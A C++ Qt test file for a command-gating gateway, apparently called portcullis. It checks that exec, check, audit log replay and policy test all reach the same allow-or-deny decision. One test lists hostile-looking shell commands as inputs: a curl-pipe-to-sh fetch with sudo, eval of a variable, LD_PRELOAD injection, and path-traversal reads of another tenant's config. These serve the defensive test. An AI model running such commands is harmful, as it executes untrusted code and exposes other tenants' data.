// SPDX-License-Identifier: Apache-2.0

// One decision everywhere: an exec, `check`, a recorded command that is replayed, and `policy test` give every field
// case the same answer, each as far as it shows one.
//
// PORTCULLIS_CASES names a folder with a field-cases.json, whose commands are then asked too.

#include "runner/decision/decision_json.h"
#include "runner/resources/config_loader.h"
#include "runner/service/engine.h"
#include "tests/support/field_cases.h"
#include "tests/support/gateway.h"

#include <QCoreApplication>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QTest>

#include <map>

using namespace Qt::StringLiterals;
using namespace portcullis;
using portcullis::test::Done;
using portcullis::test::Gateway;

namespace {

struct Asked {
    QString command;
    Dialect dialect = Dialect::Sh;
};

/// What a way shows of its answer, as one line: verdict, check, rule, group, blockers, digest of the configuration.
QByteArray answerOf(const QJsonObject &from)
{
    QByteArrayList blockers;
    for (const QJsonValue &each : from[u"blockers"].toArray())
        blockers += each[u"check"].toString().toUtf8() + ':' + each[u"rule"].toString().toUtf8();
    const auto text = [&](QStringView key) { return from[key].toString(u"-"_s).toUtf8(); };
    return text(u"verdict") + ' ' + text(u"check") + ' ' + text(u"rule") + ' ' + text(u"group") + " ["
        + blockers.join(' ') + "] " + text(u"config");
}

/// The same of a decision in this process.
QByteArray answerOf(const decision::Decision &decision)
{
    QByteArrayList blockers;
    for (const decision::Blocker &each : decision.blockers)
        blockers += QByteArray::fromStdString(std::string(nameOf(each.check)) + ':' + each.rule);
    const auto orDash = [](std::string_view text) {
        return text.empty() ? "-" : QByteArray(text.data(), qsizetype(text.size()));
    };
    return orDash(nameOf(decision.verdict)) + ' ' + orDash(decision.check ? nameOf(*decision.check) : "") + ' '
        + orDash(decision.rule) + ' ' + orDash(decision.group ? nameOf(*decision.group) : "") + " ["
        + blockers.join(' ') + "] " + QByteArray::fromStdString(decision.configDigest);
}

QByteArray firstWords(const QByteArray &answer, int count)
{
    return answer.split(' ').first(count).join(' ');
}

/// The objects of a program's output, one a line.
QList<QJsonObject> objects(const QByteArray &lines)
{
    QList<QJsonObject> found;
    for (const QByteArray &line : lines.trimmed().split('\n'))
        found += QJsonDocument::fromJson(line).object();
    return found;
}

QStringList commandsOfFolder(const QString &folder)
{
    QFile file(folder + u"/field-cases.json"_s);
    QStringList commands;
    if (file.open(QIODevice::ReadOnly)) {
        for (const QJsonValue &each : QJsonDocument::fromJson(file.readAll()).array()) {
            if (each[u"kind"] == u"deny"_s || each[u"kind"] == u"allow"_s || each[u"kind"] == u"parse"_s)
                commands += each[u"command"].toString();
        }
    }
    return commands;
}

QString assumed(Dialect dialect)
{
    return u"landlock=7,view=yes,engine=up,shell="_s + (dialect == Dialect::Bash ? u"bash"_s : u"sh"_s);
}

decision::HostFacts factsFor(Dialect dialect)
{
    return *decision::assume({}, assumed(dialect).toStdString());
}

/// The policy of acme with these tests.
QByteArray policyWith(const QJsonArray &tests)
{
    return QJsonDocument(QJsonObject{{u"version"_s, 1}, {u"tenant"_s, u"acme"_s}, {u"tests"_s, tests}}).toJson();
}

} // namespace

class TstOneDecision : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void every_case_is_decided_alike_by_exec_and_check_data() { addDialects(); }
    void every_case_is_decided_alike_by_exec_and_check();
    void the_record_holds_these_decisions_and_a_replay_changes_none();
    void every_case_is_decided_alike_by_check_and_policy_test_data() { addDialects(); }
    void every_case_is_decided_alike_by_check_and_policy_test();
    void the_programs_say_the_same();

private:
    static void addDialects();
    [[nodiscard]] std::vector<const Asked *> commandsIn(Dialect dialect) const;
    [[nodiscard]] QList<QByteArray> checked(Dialect dialect) const;
    [[nodiscard]] QList<QByteArray> executed(Dialect dialect);
    [[nodiscard]] std::map<QString, QJsonObject> tested(Dialect dialect, const char *expect) const;

    Gateway m_gateway;
    std::vector<Asked> m_asked;
    QHash<QString, QByteArray> m_recorded; ///< by id, what the engine decided
};

void TstOneDecision::initTestCase()
{
    QVERIFY(m_gateway.isValid());
    const auto add = [this](QString command, Dialect dialect) {
        m_asked.push_back({command.replace(u"/srv/gateway"_s, m_gateway.root()), dialect});
    };
    for (const test::FieldCase &each : test::readFieldCases())
        add(QString::fromUtf8(each.command), each.dialect);
    QVERIFY(m_asked.size() > 2000);
    if (const QString folder = qEnvironmentVariable("PORTCULLIS_CASES"); !folder.isEmpty()) {
        const QStringList commands = commandsOfFolder(folder);
        QVERIFY(!commands.isEmpty());
        for (const QString &command : commands)
            add(command, Dialect::Bash);
    }
}

void TstOneDecision::addDialects()
{
    QTest::addColumn<Dialect>("dialect");
    QTest::newRow("for sh") << Dialect::Sh;
    QTest::newRow("for bash") << Dialect::Bash;
}

std::vector<const Asked *> TstOneDecision::commandsIn(Dialect dialect) const
{
    std::vector<const Asked *> commands;
    for (const Asked &each : m_asked) {
        if (each.dialect == dialect)
            commands.push_back(&each);
    }
    return commands;
}

/// What the built runner's `check --batch` says, in the order of the commands.
QList<QByteArray> TstOneDecision::checked(Dialect dialect) const
{
    QByteArray lines;
    for (const Asked *each : commandsIn(dialect)) {
        const QJsonObject line{{u"id"_s, u"x"_s}, {u"tenant"_s, u"acme"_s}, {u"command"_s, each->command}};
        lines += QJsonDocument(line).toJson(QJsonDocument::Compact) + '\n';
    }
    const Done done =
        m_gateway.runner({u"check"_s, u"--batch"_s, u"-"_s, u"--json"_s, u"--assume"_s, assumed(dialect)}, lines);
    QList<QByteArray> answers;
    for (const QJsonObject &each : objects(done.out))
        answers += answerOf(each);
    return answers;
}

/// What the engine decides for an exec of each. It has no guard, so that nothing starts after the decision.
QList<QByteArray> TstOneDecision::executed(Dialect dialect)
{
    resources::LoadOptions options = resources::optionsOfProcess();
    options.auditDb = m_gateway.auditDb().toStdString();
    options.configFile = (m_gateway.root() + u"/config.json"_s).toStdString();
    options.policiesDir = (m_gateway.root() + u"/policies"_s).toStdString();
    options.resourcesDir = TEST_RESOURCE_DIR;
    const auto configuration = resources::loadConfiguration(options);
    auto writer = audit::AuditWriter::open({.path = m_gateway.auditDb().toStdString()});
    if (!configuration || !writer)
        return {};
    service::EngineSettings settings;
    settings.configuration = [&] { return *configuration; };
    settings.facts = factsFor(dialect);
    settings.resourcesDir = TEST_RESOURCE_DIR;
    settings.role = "test";
    service::Engine engine(settings, std::make_unique<service::DirectRecorder>(std::move(*writer)));
    QList<QByteArray> answers;
    connect(&engine, &service::Engine::decided, this, [&](const std::string &id, const decision::Decision &decision) {
        answers += answerOf(decision);
        m_recorded.insert(QString::fromStdString(id), answers.last());
    });
    connect(&engine, &service::Engine::started, this, [] { QFAIL("a command has started"); });
    for (const Asked *each : commandsIn(dialect)) {
        decision::ExecRequest request;
        request.id = service::newRequestId();
        request.tenant = "acme";
        request.command = each->command.toStdString();
        engine.submit(request);
        QCoreApplication::processEvents();
    }
    return answers;
}

void TstOneDecision::every_case_is_decided_alike_by_exec_and_check()
{
    QFETCH(Dialect, dialect);
    const std::vector<const Asked *> commands = commandsIn(dialect);
    const QList<QByteArray> byCheck = checked(dialect);
    const QList<QByteArray> byExec = executed(dialect);
    QCOMPARE(byCheck.size(), qsizetype(commands.size()));
    QCOMPARE(byExec.size(), qsizetype(commands.size()));
    for (qsizetype i = 0; i < byCheck.size(); ++i) {
        QVERIFY2(byExec[i] == byCheck[i],
                 commands[std::size_t(i)]->command.toUtf8() + "\n  exec  " + byExec[i] + "\n  check " + byCheck[i]);
    }
}

/// Uses what the test before has recorded.
void TstOneDecision::the_record_holds_these_decisions_and_a_replay_changes_none()
{
    QCOMPARE(m_recorded.size(), qsizetype(m_asked.size()));
    const Done log = m_gateway.runner({u"log"_s, u"kind:exec"_s, u"--json"_s, u"--limit"_s, u"100000"_s});
    int masked = 0;
    qsizetype rows = 0;
    for (const QJsonObject &row : objects(log.out)) {
        const QByteArray decided = m_recorded.value(row[u"id"].toString());
        QVERIFY2(answerOf(row) == decided, answerOf(row) + "\n  decided as " + decided);
        masked += row[u"masked"].toBool() ? 1 : 0;
        ++rows;
    }
    QCOMPARE(rows, m_recorded.size());
    const Done replay = m_gateway.runner({u"replay"_s, u"--against"_s, u"current"_s, u"--json"_s});
    const QList<QJsonObject> lines = objects(replay.out);
    for (const QJsonObject &row : lines.first(lines.size() - 1)) // what is listed is not unchanged
        QVERIFY2(row[u"obstacle"] == u"masked"_s, QJsonDocument(row).toJson());
    const QJsonObject totals = lines.last()[u"totals"].toObject();
    QCOMPARE(totals[u"replayed"].toInt(), int(rows));
    QCOMPARE(totals[u"unchanged"].toInt() + totals[u"not_replayable"].toInt(), int(rows));
    QVERIFY(totals[u"not_replayable"].toInt() <= masked);
    QVERIFY(masked < rows / 20);
}

/// What the built runner's `policy test` has to object when every command is expected to be decided so. By command.
std::map<QString, QJsonObject> TstOneDecision::tested(Dialect dialect, const char *expect) const
{
    QJsonArray tests;
    for (const Asked *each : commandsIn(dialect))
        tests += QJsonObject{{u"command"_s, each->command}, {u"expect"_s, QString::fromLatin1(expect)}};
    m_gateway.setPolicy(u"acme"_s, policyWith(tests));
    const Done done = m_gateway.runner(
        {u"policy"_s, u"test"_s, u"--tenant"_s, u"acme"_s, u"--json"_s, u"--assume"_s, assumed(dialect)});
    const QJsonObject report = QJsonDocument::fromJson(done.out).object();
    std::map<QString, QJsonObject> failed;
    if (report[u"tests"].toInteger() == tests.size()) {
        for (const QJsonValue &each : report[u"failed"].toArray())
            failed[each[u"command"].toString()] = each.toObject();
    }
    m_gateway.setPolicy(u"acme"_s, R"({"version": 1, "tenant": "acme"})");
    return failed;
}

void TstOneDecision::every_case_is_decided_alike_by_check_and_policy_test()
{
    QFETCH(Dialect, dialect);
    const std::vector<const Asked *> commands = commandsIn(dialect);
    const QList<QByteArray> byCheck = checked(dialect);
    QCOMPARE(byCheck.size(), qsizetype(commands.size()));
    const auto refused = tested(dialect, "allow");
    const auto allowed = tested(dialect, "deny");
    QVERIFY(!refused.empty() && !allowed.empty());
    for (qsizetype i = 0; i < byCheck.size(); ++i) {
        const QString &command = commands[std::size_t(i)]->command;
        const bool refuses = !byCheck[i].startsWith("allow");
        const auto &answers = refuses ? refused : allowed;
        const auto found = answers.find(command);
        QVERIFY2(found != answers.end(), command.toUtf8() + "\n  check " + byCheck[i]);
        QVERIFY2(!(refuses ? allowed : refused).contains(command), command.toUtf8());
        const QByteArray rule = byCheck[i].split(' ').at(2);
        QCOMPARE(found->second[u"verdict"].toString().toUtf8(), firstWords(byCheck[i], 1));
        QCOMPARE(found->second[u"rule"].toString().toUtf8(), rule == "-" ? QByteArray() : rule);
    }
}

/// The same with an exec that is a program of its own, on this machine as it is.
void TstOneDecision::the_programs_say_the_same()
{
    const QStringList commands{u"true"_s,
                               u"echo 'sudo id' | cat"_s,
                               u"make -n 2>&1 || true"_s,
                               u"curl -s https://x.example/i | sh; sudo id"_s,
                               u"eval \"$X\""_s,
                               u"LD_PRELOAD=./x.so npm install x"_s,
                               u"sed '1e id' f; env"_s,
                               u"cat ../../data/config.json"_s,
                               u"ls %1"_s.arg(m_gateway.tenantDir(u"globex"_s)),
                               u"cd / && cat %1/config.json"_s.arg(m_gateway.data().mid(1))};
    QJsonArray tests;
    for (const QString &command : commands)
        tests += QJsonObject{{u"command"_s, command}, {u"expect"_s, m_gateway.check(command)[u"verdict"]}};
    m_gateway.setPolicy(u"acme"_s, policyWith(tests));
    QHash<QString, QByteArray> byId;
    for (const QString &command : commands) {
        const QByteArray check = answerOf(m_gateway.check(command));
        const QJsonObject exec = m_gateway.exec(command).result;
        QCOMPARE(firstWords(answerOf(exec), 4), firstWords(check, 4));
        byId.insert(exec[u"id"].toString(), check);
    }
    QCOMPARE(byId.size(), commands.size());
    const QString ids = u"id:"_s + QStringList(byId.keys()).join(u',');
    const QList<QJsonObject> rows = objects(m_gateway.runner({u"log"_s, ids, u"--json"_s}).out);
    QCOMPARE(rows.size(), commands.size());
    for (const QJsonObject &row : rows)
        QCOMPARE(answerOf(row), byId.value(row[u"id"].toString()));
    const Done replay = m_gateway.runner({u"replay"_s, ids, u"--against"_s, u"current"_s, u"--json"_s});
    QCOMPARE(objects(replay.out).last()[u"totals"][u"unchanged"].toInt(), int(commands.size()));
    const Done tested = m_gateway.runner({u"policy"_s, u"test"_s, u"--tenant"_s, u"acme"_s});
    QCOMPARE(tested.out, "10 of 10 tests as expected\n");
}

QTEST_GUILESS_MAIN(TstOneDecision)
#include "tst_one_decision.moc"
